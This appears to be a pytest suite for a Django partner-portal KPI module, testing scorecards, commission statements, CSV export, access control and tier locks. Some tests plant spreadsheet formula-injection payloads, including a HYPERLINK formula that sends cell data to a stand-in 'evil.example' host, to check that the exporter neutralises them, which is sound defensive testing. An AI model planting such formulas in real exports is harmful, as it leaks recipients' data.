import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from kpi.models import (
    CommissionEntry,
    EntryKind,
    KpiSnapshot,
    NightlyRun,
    RunStatus,
    TierChange,
    TierChangeKind,
    TierLock,
)

pytestmark = pytest.mark.django_db


def entry(partner, day, kind, amount, key):
    return CommissionEntry.objects.create(
        partner=partner,
        kind=kind,
        entry_date=day,
        amount=Decimal(amount),
        currency="RUB",
        amount_reporting=Decimal(amount),
        description=f"entry {key}",
        source_key=key,
    )


@pytest.fixture
def snapshot(partner, tiers):
    partner.tier = tiers["silver"]
    partner.save()
    return KpiSnapshot.objects.create(
        partner=partner,
        date=timezone.localdate(),
        accepted_in_sla_pct=Decimal("88"),
        certified_people=1,
        certified_by_competency={"security": 1},
        score=Decimal("42"),
        score_components={
            "sla_acceptance": {"name": "SLA", "value": "88", "target": "100", "points": "35.20", "max_points": 40}
        },
    )


def test_scorecard_shows_next_tier_needs_and_formulas(client_for, partner_rep, snapshot):
    page = client_for(partner_rep).get(reverse("kpi:scorecard")).content.decode()
    assert "What you need to reach Gold" in page
    assert "1 more certified person in Security" in page
    assert "88% → needs 95%" in page
    assert "Pending and withdrawn offers are left out" in page  # formula explanation
    assert "35.20" in page  # score component


def test_what_if_uses_the_tier_rule(client_for, partner_rep, snapshot):
    client = client_for(partner_rep)
    url = reverse("kpi:what_if")
    response = client.get(url, {"sla_acceptance": "96", "people_security": "2"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert "you would reach <strong>Gold</strong>" in response.content.decode()
    response = client.get(url, {"sla_acceptance": "70"}, HTTP_HX_REQUEST="true")
    assert "you would reach <strong>Registered</strong>" in response.content.decode()
    # Bad input: the full page with field errors, not a 500.
    response = client.get(url, {"sla_acceptance": "-5"})
    assert response.status_code == 200
    assert "Please correct the values below." in response.content.decode()


def test_partner_sees_only_own_scorecard_and_statement(client_for, partner_rep, other_partner, snapshot):
    client = client_for(partner_rep)
    for name in ("kpi:scorecard", "kpi:statement", "kpi:what_if"):
        assert client.get(reverse(name), {"partner": other_partner.pk}).status_code == 404
        assert client.get(reverse(name), {"partner": partner_rep.partner_id}).status_code == 200
    for name, args in (
        ("kpi:dashboard", []),
        ("kpi:partner_history", [other_partner.pk]),
        ("kpi:tier_lock", [other_partner.pk]),
    ):
        assert client.get(reverse(name, args=args)).status_code == 403


def test_vendor_sees_any_partner(client_for, channel_manager, partner, snapshot):
    client = client_for(channel_manager)
    assert client.get(reverse("kpi:scorecard"), {"partner": partner.pk}).status_code == 200
    assert client.get(reverse("kpi:statement"), {"partner": partner.pk}).status_code == 200
    page = client.get(reverse("kpi:partner_history", args=[partner.pk]))
    assert page.status_code == 200
    assert "history-data" in page.content.decode()
    assert client.get(reverse("kpi:scorecard"), {"partner": 999999}).status_code == 404


def test_statement_totals_and_csv(client_for, partner_admin, partner, other_partner):
    day = datetime.date(2026, 5, 10)
    entry(partner, day, EntryKind.ACCRUAL, "1000.00", "a1")
    entry(partner, day, EntryKind.ACCRUAL, "500.00", "a2")
    entry(partner, day, EntryKind.PENALTY, "-200.00", "p1")
    CommissionEntry.objects.filter(source_key="a2").update(description='=HYPERLINK("http://evil","click")')
    entry(partner, datetime.date(2026, 6, 1), EntryKind.ACCRUAL, "9999.00", "next-month")
    entry(other_partner, day, EntryKind.ACCRUAL, "7777.00", "theirs")
    client = client_for(partner_admin)
    page = client.get(reverse("kpi:statement"), {"month": "2026-05"}).content.decode()
    assert "1,300.00" in page or "1300.00" in page
    assert "7777" not in page and "9999" not in page
    response = client.get(reverse("kpi:statement"), {"month": "2026-05", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 1 + 3 + 3 + 1  # header, entries, per-kind totals, total
    assert rows[-1][-1] == "1300.00"
    assert {r[-1] for r in rows[1:4]} == {"1000.00", "500.00", "-200.00"}
    assert '\'=HYPERLINK("http://evil","click")' in {r[3] for r in rows}
    # A bad month falls back to the current month instead of failing.
    assert client.get(reverse("kpi:statement"), {"month": "nope"}).status_code == 200


def test_dashboard_shows_risk_runs_and_ledger(client_for, channel_manager, partner, tiers):
    TierChange.objects.create(
        partner=partner,
        kind=TierChangeKind.WARNING,
        to_tier=tiers["silver"],
        effective_on=timezone.localdate(),
        grace_until=timezone.localdate() + datetime.timedelta(days=30),
        reason="Acceptance too low",
    )
    NightlyRun.objects.create(
        date=timezone.localdate(), started_at=timezone.now(), status=RunStatus.FAILED, errors="boom"
    )
    entry(partner, timezone.localdate(), EntryKind.ACCRUAL, "123.00", "x")
    client = client_for(channel_manager)
    page = client.get(reverse("kpi:dashboard")).content.decode()
    assert "Acceptance too low" in page
    assert "boom" in page
    assert "123.00" in page
    assert "vendor/chart.js/chart.umd.js" in page
    TierChange.objects.create(
        partner=partner,
        kind=TierChangeKind.WARNING_CLEARED,
        to_tier=tiers["silver"],
        effective_on=timezone.localdate(),
        reason="Cleared",
    )
    assert "Acceptance too low" not in client.get(reverse("kpi:dashboard")).content.decode()


def test_channel_manager_locks_tier(client_for, channel_manager, partner, partner_admin, tiers):
    client = client_for(channel_manager)
    url = reverse("kpi:tier_lock", args=[partner.pk])
    bad = client.post(url, {"tier": tiers["gold"].pk, "until": "2000-01-01", "reason": "x"})
    assert bad.status_code == 200 and "must not be in the past" in bad.content.decode()
    until = timezone.localdate() + datetime.timedelta(days=30)
    response = client.post(url, {"tier": tiers["gold"].pk, "until": until.isoformat(), "reason": "Strategic bid"})
    assert response.status_code == 302
    partner.refresh_from_db()
    assert partner.tier == tiers["gold"]
    lock = TierLock.objects.get(partner=partner, released_at__isnull=True)
    assert (lock.until, lock.reason, lock.locked_by) == (until, "Strategic bid", channel_manager)
    assert partner_admin.notifications.filter(kind="tier_changed").exists()
    client.post(url, {"release": "1"})
    lock.refresh_from_db()
    assert lock.released_at is not None


@pytest.mark.parametrize("name", ["kpi:scorecard", "kpi:what_if", "kpi:statement", "kpi:dashboard"])
def test_anonymous_goes_to_login(client, name):
    response = client.get(reverse(name))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_statement_csv_cells_cannot_run_as_formulas(client_for, partner_admin, partner):
    day = datetime.date(2026, 5, 10)
    bad = entry(partner, day, EntryKind.PENALTY, "-200.00", "f1")
    bad.description = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    bad.save(update_fields=["description"])
    response = client_for(partner_admin).get(reverse("kpi:statement"), {"month": "2026-05", "format": "csv"})
    (row,) = [r for r in csv.reader(io.StringIO(response.content.decode())) if "HYPERLINK" in "".join(r)]
    assert row[3] == "'" + bad.description
    assert row[4] == "-200.00"  # numbers stay numbers


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_safe_cell_quotes_formula_starts(text):
    from prm.exports import safe_cell

    assert safe_cell(text) == "'" + text
    assert safe_cell("Acme") == "Acme" and safe_cell(Decimal("-5")) == Decimal("-5")


def test_every_csv_download_goes_through_the_safe_writer():
    """A new export must use prm.exports.table_download, not its own csv.writer on an HttpResponse."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("prm", "partners", "leads", "training", "kpi")
        for path in (root / app).rglob("*.py")
        if "text/csv" in path.read_text() and path.relative_to(root).as_posix() != "prm/exports.py"
    ]
    assert offenders == []


def test_the_network_figures_are_shared_and_kept_fresh_by_the_job(client_for, channel_manager, partner, settings):
    """The month's ledger and the tier counts are sums over the network: shared for PRM_DASHBOARD_CACHE_SECONDS and
    recounted by the channel dashboard's periodic job; the nightly runs are read live."""
    from django.core.cache import cache

    from portal.tasks import vendor_home_summary_refresh

    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "kpi"}}
    settings.PRM_DASHBOARD_CACHE_SECONDS = 60
    cache.clear()
    entry(partner, timezone.localdate(), EntryKind.ACCRUAL, "123.00", "x")
    client = client_for(channel_manager)
    assert "123.00" in client.get(reverse("kpi:dashboard")).content.decode()
    entry(partner, timezone.localdate(), EntryKind.ACCRUAL, "1.00", "y")
    assert "123.00" in client.get(reverse("kpi:dashboard")).content.decode()  # shared: not recounted per request
    NightlyRun.objects.create(
        date=timezone.localdate(), started_at=timezone.now(), status=RunStatus.FAILED, errors="boom again"
    )
    assert "boom again" in client.get(reverse("kpi:dashboard")).content.decode()  # the runs are live
    cache.set("prm:kpi_network:90", (cache.get("prm:kpi_network:90")[0], 0), 600)  # about to turn stale
    vendor_home_summary_refresh()
    assert "124.00" in client.get(reverse("kpi:dashboard")).content.decode()
    cache.clear()
